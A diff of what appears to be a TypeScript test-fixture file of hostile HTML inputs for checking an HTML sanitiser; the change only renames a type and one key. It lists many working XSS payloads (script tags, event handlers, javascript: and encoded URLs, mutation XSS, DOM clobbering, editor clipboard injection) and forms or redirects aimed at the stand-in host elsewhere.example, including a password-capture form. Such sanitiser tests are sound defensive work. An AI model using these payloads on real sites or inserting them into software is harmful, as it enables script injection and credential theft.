@@ -2,17 +2,17 @@
 // DOMPurify's own tests cover other attacks. Each script calls `ran` with the name of its case.
 // URLs of other sites are on elsewhere.example.
 
-type HostileHtml = Record<string, string>;
+type HostileHtmlByName = Record<string, string>;
 
 export type HostileCase = { name: string; html: string };
 
-export const scripts: HostileHtml = {
+export const scripts: HostileHtmlByName = {
   script: `<script>ran('script')</script>`,
   "script-never-closed": `<p>Text</p><script>ran('script-never-closed');`,
   "script-in-a-script": `<scr<script>ipt>ran('script-in-a-script')</scr</script>ipt>`,
 };
 
-export const eventHandlers: HostileHtml = {
+export const eventHandlers: HostileHtmlByName = {
   "image-error": `<img src=nowhere onerror="ran('image-error')">`,
   "body-load": `<body onload="ran('body-load')"><p>Text</p></body>`,
   "focus-on-any-element": `<p tabindex=1 autofocus onfocusin="ran('focus-on-any-element')">Text</p>`,
@@ -21,7 +21,7 @@ export const eventHandlers: HostileHtml = {
   "handler-after-a-quote": `<p """onclick="ran('handler-after-a-quote')">Text</p>`,
 };
 
-export const scriptUrls: HostileHtml = {
+export const scriptUrls: HostileHtmlByName = {
   "url-script": `<a href="javascript:ran('url-script')">Read</a>`,
   "url-script-after-space": `<a href="  \n\t javascript:ran('url-script-after-space')">Read</a>`,
   "url-script-split-by-newlines": `<a href="j\na\nv\na\ns\nc\nr\ni\np\nt\n:ran('url-script-split-by-newlines')">Read</a>`,
@@ -35,14 +35,14 @@ export const scriptUrls: HostileHtml = {
   "url-ping": `<a href="/contact" ping="https://elsewhere.example/ping">Contact</a>`,
 };
 
-export const dataUrls: HostileHtml = {
+export const dataUrls: HostileHtmlByName = {
   "data-page-in-link": `<a href="data:text/html,<script>opener.ran('data-page-in-link')</script>" target="_blank" rel="opener">Read</a>`,
   "data-svg-image": `<img alt="" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran\`data-svg-image\`'/>">`,
   "data-image-with-a-quote": `<img alt="" src='data:image/png;base64,iVBORw0KGgo="onerror="ran\`data-image-with-a-quote\`'>`,
   "data-image-not-in-base64": `<img alt="" src="data:image/png,<svg onload=ran\`data-image-not-in-base64\`>"><img alt="" src="data:image/gif;charset=x;base64,R0lGODlh">`,
 };
 
-export const encodings: HostileHtml = {
+export const encodings: HostileHtmlByName = {
   "entities-in-scheme": `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;ran('entities-in-scheme')">Read</a>`,
   "entities-tab-and-newline": `<a href="java&Tab;script&NewLine;:ran('entities-tab-and-newline')">Read</a>`,
   "entities-that-look-like-tags": `&lt;img src=nowhere onerror="ran('entities-that-look-like-tags')"&gt;&#60;script&#62;ran('entities-that-look-like-tags')&#60;/script&#62;`,
@@ -54,39 +54,39 @@ export const encodings: HostileHtml = {
   "meta-charset": `<meta charset="iso-2022-jp"><meta charset="utf-16"><p>Text</p><img src=nowhere onerror="ran('meta-charset')">`,
 };
 
-export const styles: HostileHtml = {
+export const styles: HostileHtmlByName = {
   "style-covers-the-page": `<a href="https://elsewhere.example/login" style="position:fixed;inset:0;z-index:9999">Sign in again</a>`,
   "sheet-import": `<style>@import url("https://elsewhere.example/a.css");</style><p>Text</p>`,
   "sheet-closed-in-a-string": `<style>p{content:"</style><img src=nowhere onerror=ran\`sheet-closed-in-a-string\`>"}</style>`,
   "class-of-the-page": `<p class="skip-link">Skip to content</p><div class="mantine-Modal-overlay" style="position:fixed;inset:0">Text</div>`,
 };
 
-export const sources: HostileHtml = {
+export const sources: HostileHtmlByName = {
   "image-without-an-extension": `<img src="https://elsewhere.example/pixel" alt="">`,
   "image-extension-in-query": `<img src="https://elsewhere.example/pixel?a.png" alt=""><img src="https://elsewhere.example/pixel#a.png" alt="">`,
   "image-without-a-scheme": `<img src="//elsewhere.example/a.png" alt="">`,
   "image-backslashes": String.raw`<img src="/\elsewhere.example/a.png" alt=""><img src="\\elsewhere.example\a.png" alt=""><img src="https:\\elsewhere.example\a.webp" alt="">`,
   "image-tab-between-slashes": `<img src="/\t/elsewhere.example/a.png" alt="">`,
-  "image-set": `<img src="/icons/icon-192.png" srcset="https://elsewhere.example/wide.webp 1x" alt="">`,
+  "image-srcset": `<img src="/icons/icon-192.png" srcset="https://elsewhere.example/wide.webp 1x" alt="">`,
   "image-sources": `<picture><source srcset="https://elsewhere.example/a.avif" type="image/avif"><source srcset="https://elsewhere.example/b.webp"><img src="/icons/icon-192.png" alt=""></picture>`,
   "frame-with-its-document": `<iframe srcdoc="<script>parent.ran('frame-with-its-document')</script>"></iframe>`,
   "link-style-sheet": `<link rel="stylesheet" href="https://elsewhere.example/a.css" onerror="ran('link-style-sheet')" onload="ran('link-style-sheet')">`,
   "refresh-elsewhere": `<meta http-equiv="refresh" content="0;url=https://elsewhere.example/">`,
 };
 
-export const formsAndBase: HostileHtml = {
+export const formsAndBase: HostileHtmlByName = {
   "base-elsewhere": `<base href="https://elsewhere.example/"><img src="moved" alt=""><a href="/contact">Contact</a>`,
   "form-elsewhere": `<form action="https://elsewhere.example/take" method="post"><input name="password" type="password" autocomplete="current-password"><button>Sign in</button></form>`,
   "form-of-the-page": `<form id="callback" action="https://elsewhere.example/take"></form><input form="callback" name="email" value="x"><button form="callback">Send</button>`,
 };
 
-export const svg: HostileHtml = {
+export const svg: HostileHtmlByName = {
   "svg-use": `<svg><use href="https://elsewhere.example/b.svg#c"/><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='ran\`svg-use\`'/></svg>#x"/></svg>`,
   "svg-never-closed": `<p>Text</p><svg><g><text>More`,
   "math-html-inside-text": `<math><mi><img src=nowhere onerror="ran('math-html-inside-text')"></mi></math>`,
 };
 
-export const clobbering: HostileHtml = {
+export const clobbering: HostileHtmlByName = {
   "name-body": `<form name="body"><input name="querySelectorAll"><p>Text</p></form>`,
   "child-attributes": `<form onclick="ran('child-attributes')"><input name="attributes"><p>Text</p></form>`,
   "child-methods": `<form onclick="ran('child-methods')"><input name="removeAttribute"><input name="getAttributeNode"><input name="remove"><input name="removeChild"></form>`,
@@ -97,7 +97,7 @@ export const clobbering: HostileHtml = {
 };
 
 // Attacks through the editor's clipboard format, its indents, lists and code blocks, and almost valid URLs.
-export const editorDocuments: HostileHtml = {
+export const editorDocuments: HostileHtmlByName = {
   "slice-image": `<p data-pm-slice='0 0 ["image",{"src":"https://elsewhere.example/slice"}]'>Text</p>`,
   "slice-heading-handler": `<p data-pm-slice='1 1 ["preservedHeading",{"level":"1 onclick=ran\`slice-heading-handler\`"}]'>Text</p>`,
   "slice-indent": `<p data-pm-slice='1 1 ["paragraph",{"indent":"9\\" onclick=\\"ran\`slice-indent\`"}]'>Text</p>`,
@@ -117,7 +117,7 @@ export const editorDocuments: HostileHtml = {
 };
 
 // Markup that changes when it is serialised and parsed again.
-export const mutation: HostileHtml = {
+export const mutation: HostileHtmlByName = {
   "mutation-paragraph-ends-svg": `<svg></p><style><g title="</style><img src=nowhere onerror=ran('mutation-paragraph-ends-svg')>">`,
   "mutation-noscript-attribute": `<noscript><p title="</noscript><img src=nowhere onerror=ran('mutation-noscript-attribute')>"></noscript>`,
   "mutation-alternative-text": `<img src="/icons/icon-192.png" alt="</title></style></textarea></noscript></xmp><img src=nowhere onerror=ran('mutation-alternative-text')>">`,
@@ -131,7 +131,7 @@ export const mutation: HostileHtml = {
     `<table><caption><svg><title><table><caption></caption></table></title><style><u title="</style><img src=nowhere onerror=ran('mutation-deep-behind-false-ends')>">`,
 };
 
-export const breakout: HostileHtml = {
+export const breakout: HostileHtmlByName = {
   "breakout-closing-tags": `</p></div></div></article></main></body></html><img src=nowhere onerror="ran('breakout-closing-tags')">`,
   "breakout-new-footer": `</div></article></main><footer><p>Not the firm's own footer</p></footer><main id="main"><article><div>`,
   "breakout-comment-ends-with-bang": `<!-- a --!><img src=nowhere onerror="ran('breakout-comment-ends-with-bang')"> -->`,
